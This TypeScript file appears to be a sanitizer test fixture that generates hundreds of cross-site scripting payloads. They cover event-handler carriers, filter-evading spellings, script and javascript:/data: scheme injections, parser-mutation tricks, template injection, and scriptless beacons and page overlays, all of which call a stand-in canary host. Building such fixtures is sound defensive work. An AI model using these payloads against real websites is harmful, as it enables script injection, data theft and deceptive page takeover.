/**
 * Ways by which markup from elsewhere is made to run script, load something or cover the page. Written and combined
 * by us, in the manner of the public lists: elements by handlers, schemes by attributes, broken markup by its repair.
 */

/** What a vector tries to do; `n` tells afterwards which one came through. */
const run = (n: number): string => `alert(${n});new Image().src='http://canary.test/${n}'`;

type Vector = (code: string) => string;

/** Events that fire without anybody doing anything, or on the slightest touch. */
const HANDLERS = [
  'onload', 'onerror', 'onfocus', 'onblur', 'onpageshow', 'onresize', 'onscroll', 'ontoggle', 'onbegin', 'onend',
  'onanimationstart', 'onanimationend', 'ontransitionend', 'onmouseover', 'onpointerover', 'onwheel', 'oncanplay',
  'onloadstart', 'onhashchange', 'onbeforetoggle',
]; // oxfmt-ignore

const CARRIERS: readonly ((attribute: string) => string)[] = [
  (a) => `<img src="/nothing.png" ${a}>`,
  (a) => `<svg ${a}><circle r="9"/></svg>`,
  (a) => `<body ${a}>`,
  (a) => `<details open ${a}><summary>more</summary>text</details>`,
  (a) => `<input autofocus ${a}>`,
  (a) => `<video src="/nothing.mp4" autoplay ${a}></video>`,
  (a) => `<marquee ${a}>moving</marquee>`,
  (a) => `<p tabindex="0" autofocus style="animation:spin 1s" ${a}>A paragraph</p>`,
  (a) => `<a href="#here" ${a}>a link</a>`,
];

const handlerVectors: readonly Vector[] = HANDLERS.flatMap((handler) =>
  CARRIERS.map(
    (carry): Vector =>
      (code) =>
        carry(`${handler}="${code}"`),
  ),
);

/** How a handler is written so that a simple filter misses it. */
const SPELLINGS: readonly Vector[] = [
  (code) => `<img/src=x/onerror="${code}">`,
  (code) => `<IMG SRC=x OnErRoR="${code}">`,
  (code) => `<img src=x\nonerror\n=\n"${code}">`,
  (code) => `<img src=x onerror\t=\f"${code}">`,
  (code) => `<img src="x"onerror="${code}">`,
  (code) => `<img src='x'\u0000onerror="${code}">`,
  (code) => `<img src=x on\u0000error="${code}">`,
  (code) => `<img src=x onerror=${code.replace(/ /g, '')}>`,
  (code) => `<img src=x onerror="${entities(code)}">`,
  (code) => `<img """><img src=x onerror="${code}">`,
  (code) => `<img src=x:x onerror="${code}" alt="`,
  (code) => `<img src=x title="a>b" onerror="${code}">`,
  (code) => `<<img src=x onerror="${code}">`,
  (code) => `<a<img src=x onerror="${code}">`,
  (code) => `</img/><image src=x onerror="${code}">`,
  (code) => `<img src=x onerror="${code}"//`,
  (code) => `<custom-element onfocus="${code}" tabindex=1 autofocus>x</custom-element>`,
  (code) => `<!--><img src=x onerror="${code}">-->`,
  (code) => `<!-- --!><img src=x onerror="${code}">`,
  (code) => `<![CDATA[><img src=x onerror="${code}">]]>`,
  (code) => `<?xml version="1.0"?><img src=x onerror="${code}">`,
  (code) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=&quot;${code}&quot;>">]>&e;`,
];

const SCRIPTS: readonly Vector[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT>`,
  (code) => `<script >${code}</script >`,
  (code) => `<script/x>${code}</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script type="module">${code}</script>`,
  (code) => `<script>${code}`,
  (code) => `<script src="http://canary.test/s.js"></script>`.concat(`<script>${code}</script>`),
  (code) => `<script src="data:text/javascript,${encodeURIComponent(code)}"></script>`,
  (code) => `<script src="//canary.test/s.js?${code.length}"></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${encodeURIComponent(code)}"/></svg>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) => `<noscript><script>${code}</script></noscript>`,
  (code) => `<noscript><p title="</noscript><script>${code}</script>"></p></noscript>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<template shadowrootmode="open"><script>${code}</script></template>`,
  (code) => `<title></title><script>${code}</script>`,
  (code) => `<textarea></textarea><script>${code}</script></textarea>`,
  (code) => `<xmp><script>${code}</script></xmp>`,
  (code) => `<plaintext><script>${code}</script>`,
  (code) => `<frameset onload="${code}"><frame src="javascript:${code}"></frameset>`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\u00bcscript\u00be${code}\u00bc/script\u00be`,
  (code) => `＜script＞${code}＜/script＞`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
  (code) => `&#60;script&#62;${code}&#60;/script&#62;`,
  (code) => `&#x3c;img src=x onerror="${code}"&#x3e;`,
  (code) => `%3Cscript%3E${encodeURIComponent(code)}%3C/script%3E`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
];

const SCHEMES: readonly Vector[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java&#9;script:${code}`,
  (code) => `java&Tab;script&colon;${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `&#x6A;&#x61;vascript&#58;${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `javascript://example.org/%0a${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${code}"/>`,
  (code) => `blob:javascript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `jar:javascript:${code}`,
];

const ADDRESSED: readonly Vector[] = [
  (url) => `<a href="${url}" id="go">a link</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<img src="${url}" alt="a picture">`,
  (url) => `<img srcset="${url} 2x" src="/nothing.png">`,
  (url) => `<form action="${url}"><button autofocus>go</button></form>`,
  (url) => `<form><button formaction="${url}">go</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">go</text></a></svg>`,
  (url) => `<svg><use href="${url}"/></svg>`,
  (url) => `<svg><animate attributeName="href" values="${url}"/></svg>`,
  (url) => `<math href="${url}"><mtext>go</mtext></math>`,
  (url) => `<video poster="${url}" src="${url}" autoplay></video>`,
  (url) => `<blockquote cite="${url}">said</blockquote>`,
  (url) => `<table background="${url}"><tr><td>1</td></tr></table>`,
];

const schemeVectors: readonly Vector[] = SCHEMES.flatMap((scheme) =>
  ADDRESSED.map(
    (place): Vector =>
      (code) =>
        place(scheme(code.replaceAll('"', '&quot;'))),
  ),
);

/** Markup that a parser repairs into something else than what a filter saw. */
const MUTATIONS: readonly Vector[] = [
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${code}'&gt;">`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror='${code}'>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${code}">`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img src="x" onerror="${code}"></style></annotation-xml></math>`,
  (code) =>
    `<svg><foreignObject><p><style><!--</style><img src=x onerror="${code}">--></style></p></foreignObject></svg>`,
  (code) => `<svg><title><style><img src="</style><img src=x onerror='${code}'>"></title></svg>`,
  (code) => `<svg><desc><noscript></desc></noscript><img src=x onerror="${code}">`,
  (code) => `<table><a><form><td><form><img src=x onerror="${code}"></td></a></table>`,
  (code) => `<select><template><img src=x onerror="${code}"></template></select>`,
  (code) => `<select><style><img src=x onerror="${code}"></style></select>`,
  (code) => `<p id="a"><p id='b" onmouseover="${code}'>x</p>`,
  (code) => `<div title="\`><img src=x onerror=${code}>\`">x</div>`,
  (code) => `<style><style/><img src=x onerror="${code}">`,
  (code) => `<iframe srcdoc="<img src=x onerror='${code}'>"></iframe>`,
  (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  (code) => `<svg><set attributeName="onmouseover" to="${code}"/></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName="x" dur="1s"/></svg>`,
  (code) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler></svg>`,
  (code) => `<svg><image href="x" onerror="${code}"/></svg>`,
  (code) => `<isindex type="image" src="x" onerror="${code}">`,
  (code) => `<listing>&lt;img src=x onerror="${code}"&gt;</listing>`,
  (code) => `<nobr><nobr><nobr><img src=x onerror="${code}">`,
  (code) => `<b><p><b><table><b><img src=x onerror="${code}">`,
  (code) => `"><img src=x onerror="${code}">`,
  (code) => `'><img src=x onerror='${code.replaceAll("'", '&#39;')}'>`,
  (code) => `" autofocus onfocus="${code}" x="`,
  (code) => `' autofocus onfocus='${code.replaceAll("'", '&#39;')}' x='`,
  (code) => `\` onmouseover=${code} \``,
  (code) => `--><script>${code}</script><!--`,
  (code) => `]]><script>${code}</script><![CDATA[`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `</textarea><img src=x onerror="${code}">`,
  (code) => `</script><script>${code}</script>`,
  (code) => `*/</style><img src=x onerror="${code}">/*`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => `\${${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `\u2028${code}\u2029`,
  (code) => `\u202e<img src=x onerror="${code}">\u202c`,
];

/** No script at all, and still a request to elsewhere, another page, or something over the notice. */
const QUIET: readonly Vector[] = [
  (code) => `<meta http-equiv="refresh" content="0;url=http://canary.test/${code.length}">`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  () => `<base href="http://canary.test/">`,
  () => `<link rel="stylesheet" href="http://canary.test/s.css">`,
  () => `<link rel="preload" as="script" href="http://canary.test/s.js">`,
  () => `<link rel="prefetch" href="http://canary.test/p">`,
  () => `<link rel="preconnect" href="http://canary.test">`,
  () => `<link rel="dns-prefetch" href="//canary.test">`,
  () => `<link rel="manifest" href="http://canary.test/m.json">`,
  () => `<link rel="icon" href="http://canary.test/i.ico">`,
  () => `<style>@import url(http://canary.test/s.css);</style>`,
  () => `<style>body{background:url(http://canary.test/b)} section{display:none!important}</style>`,
  () => `<style>@font-face{font-family:x;src:url(http://canary.test/f)} *{font-family:x}</style>`,
  () => `<p style="background:url(http://canary.test/b)">x</p>`,
  () => `<p style="position:fixed;inset:0;background:#fff;z-index:99999">over everything</p>`,
  () => `<p style="margin-top:-9999px">over the notice</p>`,
  (code) => `<p style="width:expression(${code})">x</p>`,
  (code) => `<p style="-moz-binding:url(http://canary.test/${code.length}#x)">x</p>`,
  () => `<img src="http://canary.test/pixel.gif" width="1" height="1">`,
  () => `<picture><source srcset="http://canary.test/a 1x"><img src="http://canary.test/b"></picture>`,
  () => `<audio src="http://canary.test/a" autoplay></audio>`,
  () => `<video><track default src="http://canary.test/t"></video>`,
  () => `<a href="/elsewhere" ping="http://canary.test/ping">x</a>`,
  () => `<input type="image" src="http://canary.test/i">`,
  () => `<portal src="http://canary.test/"></portal>`,
  () => `<svg><image href="http://canary.test/i"/><feImage href="http://canary.test/f"/></svg>`,
  () =>
    `<svg style="position:absolute;top:0;left:0;width:100%;height:100%"><rect width="999" height="999"/></svg>`,
  () => `<dialog open style="position:fixed;top:0">a false notice</dialog>`,
  () => `<div popover id="p">x</div><button popovertarget="p" autofocus>x</button>`,
  () =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://canary.test/"]}]}</script>`,
  () => `<object type="text/html" data="http://canary.test/"></object>`,
  () => `<applet code="http://canary.test/a.class"></applet>`,
  () => `<bgsound src="http://canary.test/a">`,
  () => `<body background="http://canary.test/b">`,
  () =>
    `<table background="http://canary.test/b"><tr><td background="http://canary.test/c">1</td></tr></table>`,
  () => `<html manifest="http://canary.test/m"><img src="http://canary.test/i"></html>`,
];

const FAMILIES: readonly Vector[] = [
  ...handlerVectors,
  ...SPELLINGS,
  ...SCRIPTS,
  ...schemeVectors,
  ...MUTATIONS,
  ...QUIET,
];

/** Every vector, each with its own number in what it tries to run. */
export function xssVectors(): string[] {
  return FAMILIES.map((write, n) => write(run(n)));
}

function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
}
